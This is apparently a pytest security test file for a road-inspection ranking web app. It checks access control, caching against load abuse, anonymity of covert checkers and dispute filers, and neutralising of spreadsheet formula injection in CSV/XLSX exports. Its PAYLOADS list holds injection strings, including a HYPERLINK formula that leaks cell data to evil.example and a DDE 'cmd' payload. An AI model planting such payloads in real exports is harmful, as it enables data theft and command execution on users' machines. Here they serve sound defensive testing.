"""Rankings (docs/security.md, section 6): drafts are staff-only and computed once per burst;
the public sees reporter kinds, not covert checkers' or evaluators' ids; disputes are public
only as counts; no CSV or XLSX cell (rankings and cases) is ever run as a formula.

Each test is named after the attack and failed on the code before the change. The
consistency of one ranking under a stream of reports (acceptance c) is
tests/test_ranking_consistency.py.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import text, update

from roadwatch.ranking import publish as pub
from roadwatch.ranking.week import Week
from roadwatch.store import models
from tests.conftest import make_settings
from tests.support.auth import login
from tests.support.ranking import add_person, add_report, clean
from tests.test_ranking_jobs import golden_fixture

GOLDEN = Path(__file__).parent.parent / "data" / "ranking_golden.toml"
H = dt.timedelta(hours=1)
DRAFT = "2026-W48"  # after the golden weeks, never published here
# what a spreadsheet would run: OWASP's triggers, also behind a tab or a carriage return
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?"&A1,"查看")',
    "@SUM(1)",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


@pytest.fixture(scope="module")
def sec_rt(tmp_path_factory: pytest.TempPathFactory, network_ctx: Any) -> Iterator[Any]:
    from roadwatch.runtime import Runtime

    settings = make_settings(tmp_path_factory.mktemp("sec-rank"), ranking_formula=str(GOLDEN))
    rt = Runtime.build(settings, ctx=network_ctx)
    yield rt
    rt.stop()


@pytest.fixture
def world(sec_rt: Any) -> dict[str, Any]:
    """The golden weeks with a covert check added on the worst segment, W46 and W47
    published; a finding of the draft week (W48) disputed by a named chief."""
    rt = sec_rt
    with rt.engine.begin() as conn:
        clean(conn)
    tz = rt.settings.tz
    ids = golden_fixture(rt, tz)
    w46, w47, w48 = (Week.parse(x, tz) for x in ("2026-W46", "2026-W47", DRAFT))
    s1 = ids["segments"][0]
    with rt.engine.begin() as c:
        add_person(c, "covert-7", "covert", "暗访员王五")
        ids["covert"] = add_report(
            c, s1, "EQ", w47.start + 30 * H, category="E0504", reporter="covert-7"
        )
        ids["draft"] = add_report(c, s1, "EQ", w48.start + 5 * H, category="E0504")
    for w in (w46, w47):
        pub.publish(rt.engine, _formula(rt), w, pub.default_as_of(w, 8), "t", w.end + 9 * H)
    pub.file_dispute(
        rt.engine, w48, ids["draft"], "chief-2", "张路长说：当场已整改", ["b" * 64], w48.end, 8
    )
    return ids


def _formula(rt: Any) -> Any:
    from roadwatch.ranking.formula import load_formula

    return load_formula(GOLDEN, rt.categories.codes)


@pytest.fixture
def app(sec_rt: Any, world: Any) -> Any:
    """Not conftest's `app`: this one runs on `sec_rt` (the golden ranking formula, the
    published golden weeks of `world`), not on the parametrised `runtime`."""
    from roadwatch.web import create_app

    app, _ = create_app(sec_rt)
    return app


def test_anonymous_draft_ranking_is_refused_while_published_week_stays_public(
    sec_rt: Any, app: Any
) -> None:
    anon = app.test_client()
    page = anon.get(f"/rankings/{DRAFT}")
    assert page.status_code == 302 and "/login" in page.headers["Location"]
    for ext in ("", ".csv", ".xlsx", ".pdf"):
        res = anon.get(f"/api/rankings/{DRAFT}{ext}")
        assert res.status_code == 401, (ext, res.status_code)
        assert res.get_json()["errors"][0]["code"] == "login_required"
    # the published weeks stay public
    assert anon.get("/rankings/2026-W47").status_code == 200
    assert anon.get("/api/rankings/2026-W47").get_json()["status"]["published"] is True
    assert anon.get("/api/rankings/2026-W47.csv").status_code == 200
    # staff read the draft
    staff = app.test_client()
    login(staff, sec_rt, "viewer")
    body = staff.get(f"/api/rankings/{DRAFT}").get_json()
    assert body["status"]["published"] is False and body["week"] == DRAFT
    assert staff.get(f"/rankings/{DRAFT}").status_code == 200


def count_computations(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    """A list that gets one entry per computation of a week's ranking."""
    calls: list[int] = []
    real = pub.compute

    def counting(*args: Any, **kwargs: Any) -> Any:
        calls.append(1)
        return real(*args, **kwargs)

    monkeypatch.setattr(pub, "compute", counting)
    return calls


def test_a_burst_of_draft_loads_computes_the_ranking_once(
    sec_rt: Any, app: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Eight loads of the draft at once (page, JSON, CSV, XLSX): one computation."""
    calls = count_computations(monkeypatch)
    clients = []
    for _ in range(8):
        c = app.test_client()
        login(c, sec_rt, "admin")
        clients.append(c)
    barrier = threading.Barrier(len(clients))
    statuses: list[int] = []

    def load(i: int) -> None:
        barrier.wait()
        ext = ("", ".csv", ".xlsx", "")[i % 4]
        path = f"/rankings/{DRAFT}" if i == 3 else f"/api/rankings/{DRAFT}{ext}"
        statuses.append(clients[i].get(path).status_code)

    threads = [threading.Thread(target=load, args=(i,)) for i in range(len(clients))]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert statuses == [200] * len(clients)
    assert len(calls) == 1, f"the draft was computed {len(calls)} times"


def test_a_burst_of_anonymous_verify_calls_recomputes_the_week_once(
    sec_rt: Any, app: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """GET /api/rankings/{week}/verify is public and recomputes the whole week (seconds to
    half a minute on a province's data): each anonymous call did it again, a free way to
    load the server. A burst of checks now makes one; the answer is the same."""
    calls = count_computations(monkeypatch)
    clients = [app.test_client() for _ in range(8)]
    barrier = threading.Barrier(len(clients))
    answers: list[tuple[int, Any]] = []

    def check(i: int) -> None:
        barrier.wait()
        res = clients[i].get("/api/rankings/2026-W47/verify")
        answers.append((res.status_code, res.get_json()))

    threads = [threading.Thread(target=check, args=(i,)) for i in range(len(clients))]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    for _ in range(4):  # and one after another
        answers.append((clients[0].get("/api/rankings/2026-W47/verify").status_code, None))
    assert [code for code, _ in answers] == [200] * 12
    assert all(body["ok"] is True for _, body in answers if body is not None)
    assert len(calls) == 1, f"the week was recomputed {len(calls)} times"
    assert app.test_client().get(f"/api/rankings/{DRAFT}/verify").status_code == 404


def test_a_new_host_header_per_request_renders_the_published_week_again(
    sec_rt: Any, app: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A published week's PDF (seconds of WeasyPrint; CSV and XLSX alike) is made once and
    kept, but the Host header was part of the cache key: an anonymous loop sending a new
    Host each time had every request render it again (and pushed the other weeks out)."""
    from roadwatch.web import rankings

    renders: list[str] = []
    for name in ("_pdf", "_csv", "_xlsx"):
        real = getattr(rankings, name)

        def counting(*args: Any, _real: Any = real, _name: str = name, **kw: Any) -> Any:
            renders.append(_name)
            return _real(*args, **kw)

        monkeypatch.setattr(rankings, name, counting)
    anon = app.test_client()
    bodies: dict[str, set[bytes]] = {}
    for i in range(4):
        for ext in ("pdf", "csv", "xlsx"):
            res = anon.get(f"/api/rankings/2026-W47.{ext}", headers={"Host": f"h{i}.example"})
            assert res.status_code == 200, (ext, res.status_code)
            bodies.setdefault(ext, set()).add(res.data)
    assert sorted(renders) == ["_csv", "_pdf", "_xlsx"], renders
    assert all(len(b) == 1 for b in bodies.values())


def test_every_anonymous_visit_of_the_index_reads_every_published_weeks_content(
    sec_rt: Any, app: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """/rankings/ (public) read and parsed the whole content of up to 104 published weeks
    (megabytes each, hundreds on a province's data) for every visitor: a free way to load
    the server. A published week never changes; its line is made once."""
    from roadwatch.web import rankings

    made: list[str] = []
    real = rankings._summary

    def counting(row: Any, tz: Any) -> Any:
        made.append(row.week)
        return real(row, tz)

    monkeypatch.setattr(rankings, "_summary", counting)
    pages = {app.test_client().get("/rankings/").get_data(as_text=True) for _ in range(5)}
    assert len(pages) == 1 and "2026-W47" in next(iter(pages))
    assert sorted(made) == ["2026-W46", "2026-W47"], made


def _public_texts(client: Any) -> dict[str, str]:
    out = {
        "json": client.get("/api/rankings/2026-W47").data.decode(),
        "html": client.get("/rankings/2026-W47").data.decode(),
        "csv": client.get("/api/rankings/2026-W47.csv").data.decode("utf-8-sig"),
    }
    wb = load_workbook(io.BytesIO(client.get("/api/rankings/2026-W47.xlsx").data))
    out["xlsx"] = json.dumps(
        [list(r) for ws in wb.worksheets for r in ws.iter_rows(values_only=True)],
        ensure_ascii=False,
        default=str,
    )
    return out


def test_public_ranking_drilldown_names_no_covert_checker_or_evaluator(
    sec_rt: Any, app: Any, world: Any
) -> None:
    s1 = world["segments"][0]
    # staff see who found what (the covert check is in the black flag's drill-down)
    staff = app.test_client()
    login(staff, sec_rt, "admin")
    body = staff.get("/api/rankings/2026-W47").get_json()
    drill = _drilldown(body, s1)
    assert {f["reporter_id"] for f in drill} == {"ev-1", "covert-7"}
    # the public sees the kinds only, in every format
    anon = app.test_client()
    body = anon.get("/api/rankings/2026-W47").get_json()
    drill = _drilldown(body, s1)
    assert {f["id"] for f in drill} == {*world["s1"], world["covert"]}
    assert all("reporter_id" not in f for f in drill)
    assert {f["reporter_kind"] for f in drill} == {"evaluator", "covert"}
    for fmt, txt in _public_texts(anon).items():
        for secret in ("covert-7", "暗访员王五", "ev-1", "第三方测评一组"):
            assert secret not in txt, f"{secret} in the public {fmt}"
    assert "暗访" in _public_texts(anon)["html"]  # the kind is shown instead
    # the frozen content and its hash are untouched
    assert staff.get("/api/rankings/2026-W47/verify").get_json()["ok"] is True


def _drilldown(body: dict[str, Any], unit: str) -> list[dict[str, Any]]:
    for lg in body["leagues"]:
        for s in lg["scores"]:
            if s["id"] == unit:
                return list(s["drilldown"])
    raise AssertionError(f"{unit} not ranked")


def test_public_dispute_list_names_no_filer(sec_rt: Any, app: Any) -> None:
    anon = app.test_client()
    res = anon.get(f"/api/rankings/{DRAFT}/disputes")
    assert res.status_code == 200
    raw = res.data.decode()
    for secret in ("chief-2", "张路长", "当场已整改", "b" * 64):
        assert secret not in raw, f"{secret} in the public dispute list"
    body = res.get_json()  # counts and outcomes only
    assert (body["filed"], body["pending"], body["upheld"], body["rejected"]) == (1, 1, 0, 0)
    staff = app.test_client()
    login(staff, sec_rt, "viewer")
    items = staff.get(f"/api/rankings/{DRAFT}/disputes").get_json()["items"]
    assert [d["filed_by"] for d in items] == ["chief-2"]


def _expected(payload: str) -> str:
    return "'" + payload


def _xlsx_cells(data: bytes, sheet: str) -> list[Any]:
    wb = load_workbook(io.BytesIO(data))
    return [cell for row in wb[sheet].iter_rows() for cell in row]


def _assert_text_cell(cells: list[Any], payload: str) -> None:
    # XML turns a stored carriage return into a line feed: compare without it
    want = _expected(payload).replace("\r", "\n")
    hits = [c for c in cells if isinstance(c.value, str) and c.value.replace("\r", "\n") == want]
    assert hits, f"{payload!r} is not in the sheet as the text {want!r}"
    assert all(c.data_type != "f" for c in cells), "a formula cell in the export"
    bare = payload.replace("\r", "\n")
    assert not [c for c in cells if isinstance(c.value, str) and c.value == bare]


def test_formula_injection_in_segment_names_is_neutralised_in_ranking_csv_and_xlsx(
    sec_rt: Any, app: Any, world: Any
) -> None:
    """Road names come from OSM and city files: a segment named like a formula."""
    segs = world["segments"]
    rename = text("UPDATE segments SET name = :n WHERE id = :id")
    with sec_rt.engine.begin() as conn:
        names = dict(conn.execute(text("SELECT id, name FROM segments")).all())
        for sid, payload in zip(segs, PAYLOADS, strict=True):
            conn.execute(rename, {"n": payload, "id": sid})
    try:
        _check_ranking_exports(sec_rt, app, segs)
    finally:
        with sec_rt.engine.begin() as conn:
            for sid in segs:
                conn.execute(rename, {"n": names[sid], "id": sid})


def _check_ranking_exports(sec_rt: Any, app: Any, segs: list[str]) -> None:
    staff = app.test_client()
    login(staff, sec_rt, "admin")
    res = staff.get(f"/api/rankings/{DRAFT}.csv")  # computed now: with the new names
    assert res.status_code == 200
    rows = list(csv.reader(io.StringIO(res.data.decode("utf-8-sig"), newline="")))
    name_of = {r[5]: r[6] for r in rows[1:] if r[1] == "segment"}
    for sid, payload in zip(segs, PAYLOADS, strict=True):
        assert name_of[sid] == _expected(payload), (sid, name_of[sid])
    res = staff.get(f"/api/rankings/{DRAFT}.xlsx")
    cells = _xlsx_cells(res.data, "ranking")
    for payload in PAYLOADS:
        _assert_text_cell(cells, payload)


def test_formula_injection_in_case_notes_is_neutralised_in_cases_csv_and_xlsx(
    sec_rt: Any, app: Any, world: Any
) -> None:
    s3 = world["segments"][2]
    now = models.utcnow()
    rids = {}
    with sec_rt.engine.begin() as conn:
        for i, payload in enumerate(PAYLOADS):
            rid = add_report(conn, s3, "EQ", now - (i + 1) * H)
            conn.execute(update(models.Report).where(models.Report.id == rid).values(note=payload))
            rids[rid] = payload
    staff = app.test_client()
    login(staff, sec_rt, "admin")
    since = (now - 24 * H).isoformat().replace("+", "%2B")
    res = staff.get(f"/api/cases.csv?since={since}")
    assert res.status_code == 200
    rows = list(csv.DictReader(io.StringIO(res.data.decode("utf-8-sig"), newline="")))
    # The headers are Chinese with the code beside ("编号 (id)"): read them by the code.
    code = {h: h.rsplit("(", 1)[-1].rstrip(")") for h in rows[0]}
    rows = [{code[h]: v for h, v in r.items()} for r in rows]
    notes = {r["id"]: r["note"] for r in rows}
    for rid, payload in rids.items():
        assert notes[rid] == _expected(payload), (payload, notes[rid])
    cells = _xlsx_cells(staff.get(f"/api/cases.xlsx?since={since}").data, "cases")
    for payload in PAYLOADS:
        _assert_text_cell(cells, payload)
